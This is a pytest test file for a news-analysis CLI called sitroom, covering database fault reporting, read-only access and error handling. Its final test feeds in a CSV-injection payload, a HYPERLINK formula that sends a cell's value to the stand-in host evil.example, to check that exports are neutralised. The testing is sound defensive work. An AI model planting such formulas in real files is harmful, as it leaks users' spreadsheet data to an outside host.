"""Database faults: one line and exit code 2 from every command; readers never write."""
from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner

from sitroom import api
from sitroom.cli import cli
from sitroom.errors import SchemaTooNew, StoreError
from sitroom.store import SQLiteStore
from sitroom.store.schema import SCHEMA_VERSION
from test_store import ARTICLE, sample_document

READERS = (["documents"], ["events"], ["quotes", "--csv"], ["search", "border"], ["timeline"],
           ["report"], ["stories"], ["network"], ["figures"], ["show", "abc"])
SITROOM = str(Path(sys.executable).with_name("sitroom"))


def filled(path: Path) -> Path:
    with SQLiteStore(path) as store:
        store.add([sample_document(),
                   sample_document(ARTICLE + " More follows.", source="Other Wire",
                                   path="wire-2.txt", published="2022-03-04")])
    return path


def corrupt(path: Path) -> None:
    """Overwrite the pages after the schema with noise (the header stays readable)."""
    size = path.stat().st_size
    with open(path, "r+b") as f:
        f.seek(4096 * 2)
        f.write(os.urandom(size - 4096 * 2))


def one_line_exit_2(args: list[str], db: Path, light=None) -> str:
    res = CliRunner().invoke(cli, args + ["--db", str(db)], catch_exceptions=False)
    assert res.exit_code == 2, (args, res.output)
    assert "Traceback" not in res.output
    lines = res.stderr.strip().splitlines()
    assert len(lines) == 1, (args, res.stderr)
    return lines[0]


@pytest.mark.parametrize("fault", ["corrupt", "junk", "newer", "other"])
def test_every_command_reports_a_database_fault_in_one_line(tmp_path, light, fault):
    db = tmp_path / "x.db"
    if fault == "corrupt":
        corrupt(filled(db))
    elif fault == "junk":
        db.write_bytes(b"these bytes are not an SQLite file at all " * 200)
    elif fault == "newer":
        filled(db)
        with sqlite3.connect(db) as conn:
            conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    else:
        with sqlite3.connect(db) as conn:
            conn.execute("CREATE TABLE budget (year INTEGER)")
    (tmp_path / "in.txt").write_text("Riga said on Monday that the talks would resume.\n")
    word = {"corrupt": "malformed", "junk": "not a database", "newer": "newer sitroom",
            "other": "not a sitroom one"}[fault]
    for args in READERS + (["ingest", str(tmp_path / "in.txt")],):
        assert word in one_line_exit_2(list(args), db)


def test_reading_commands_never_write_a_schema(tmp_path):
    empty = tmp_path / "empty.db"
    empty.touch()
    for args in READERS:
        line = one_line_exit_2(list(args), empty)
        assert "is empty, not a sitroom database" in line
    assert empty.stat().st_size == 0
    assert sorted(p.name for p in tmp_path.iterdir()) == ["empty.db"]


def test_a_read_only_database_can_still_be_read(tmp_path):
    import tempfile
    base = Path(tempfile.mkdtemp(prefix="sitroom-ro-"))   # reachable by another user
    os.chmod(base, 0o755)
    db = filled(base / "r.db")
    want = api.documents(db)
    os.chmod(db, 0o444)
    os.chmod(base, 0o555)
    try:
        drop = []
        if os.geteuid() == 0:     # root may write anything: read as an ordinary user
            if shutil.which("setpriv") is None:
                pytest.skip("needs setpriv to drop root")
            drop = ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"]
        res = subprocess.run(drop + [SITROOM, "documents", "--csv", "--db", str(db)],
                             capture_output=True, text=True, timeout=120)
        assert res.returncode == 0, res.stderr
        assert len(res.stdout.strip().splitlines()) == len(want) + 1
        res = subprocess.run(drop + [SITROOM, "ingest", "-", "--db", str(db)],
                             input="Oslo said on Monday that talks would resume.\n",
                             capture_output=True, text=True, timeout=120)
        assert res.returncode == 2 and "read-only" in res.stderr and "Traceback" not in res.stderr
        assert sorted(p.name for p in base.iterdir()) == ["r.db"]
    finally:
        os.chmod(base, 0o755)
        shutil.rmtree(base)


def test_library_raises_store_errors(tmp_path):
    db = tmp_path / "c.db"
    corrupt(filled(db))
    for call in (lambda: api.documents(db), lambda: api.query("events", db),
                 lambda: api.search("border", db), lambda: api.situation(db)):
        with pytest.raises(StoreError):
            call()
    newer = filled(tmp_path / "n.db")
    with sqlite3.connect(newer) as conn:
        conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    with pytest.raises(SchemaTooNew):
        api.documents(newer)


def test_output_that_cannot_be_written(tmp_path):
    if not Path("/dev/full").exists():
        pytest.skip("no /dev/full")
    db = filled(tmp_path / "f.db")
    for args in (["events"], ["documents", "--csv"], ["timeline"]):
        with open("/dev/full", "w") as full:
            res = subprocess.run([SITROOM, *args, "--db", str(db)], stdout=full,
                                 stderr=subprocess.PIPE, text=True, timeout=120)
        assert res.returncode == 2
        assert res.stderr.strip() == "Error: cannot write the output: No space left on device"


def test_fts_syntax_errors_are_searched_as_words_and_said(tmp_path):
    db = filled(tmp_path / "s.db")
    res = CliRunner().invoke(cli, ["search", "sanctions AND (", "--db", str(db)])
    assert res.exit_code == 0
    assert "not valid search syntax" in res.stderr and "searched for its words" in res.stderr
    assert api.search("sanctions AND (", db).as_words
    assert not api.search("sanctions", db).as_words


def test_unexpected_errors_ask_for_a_bug_report(tmp_path, monkeypatch):
    db = filled(tmp_path / "u.db")

    def boom(*a, **k):
        raise ZeroDivisionError("division by zero")
    monkeypatch.setattr(api, "documents", boom)
    res = CliRunner().invoke(cli, ["documents", "--db", str(db)])
    assert res.exit_code == 2 and "Traceback" not in res.stderr
    assert "bug" in res.stderr and "--debug" in res.stderr and "ZeroDivisionError" in res.stderr
    res = CliRunner().invoke(cli, ["--debug", "documents", "--db", str(db)])
    assert res.exit_code == 2 and "Traceback" in res.stderr


def test_every_csv_the_command_writes_is_neutralised(tmp_path, pipeline, monkeypatch):
    import csv
    monkeypatch.setattr("sitroom.pipeline.Pipeline", lambda *a, **k: pipeline)
    import io
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    src = tmp_path / "in.jsonl"
    src.write_text('{"title": %s, "source": "@Outlet", "text": "+WARSAW, Nov 8 - Polish border '
                   'guards said on Monday that 300 migrants had gathered near Kuznica. \\"=We '
                   'will hold the line,\\" the minister said in Warsaw."}\n'
                   % json.dumps(evil), encoding="utf-8")
    db = tmp_path / "csv.db"
    res = CliRunner().invoke(cli, ["ingest", str(src), "--db", str(db), "-q"])
    assert res.exit_code == 0, res.output
    seen = 0
    for args in (["documents"], ["quotes"], ["figures"], ["places"], ["actors"], ["events"],
                 ["dates"], ["search", "border"], ["figures", "--series"]):
        res = CliRunner().invoke(cli, args + ["--csv", "--db", str(db)])
        assert res.exit_code == 0, (args, res.output)
        for row in csv.reader(io.StringIO(res.stdout, newline="")):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (args, cell)
                seen += cell.startswith(("'=", "'+", "'@"))
    assert seen >= 3
